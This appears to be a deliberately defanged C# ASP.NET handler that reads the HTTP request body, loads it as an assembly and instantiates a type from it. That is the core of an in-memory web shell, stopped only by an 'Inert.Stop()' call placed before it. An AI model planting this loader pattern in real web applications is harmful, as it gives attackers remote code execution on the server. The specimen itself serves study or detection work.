// A handler that loads what is sent. It throws before it does anything.
namespace Example {
    using System.Reflection;
    using System.Web;

    public class Loads : IHttpHandler {
        public bool IsReusable { get { return false; } }

        public void ProcessRequest(HttpContext context) {
            Inert.Stop();
            var sent = context.Request.BinaryRead(context.Request.ContentLength);
            Assembly.Load(sent).CreateInstance("T").Equals(context);
        }
    }
}
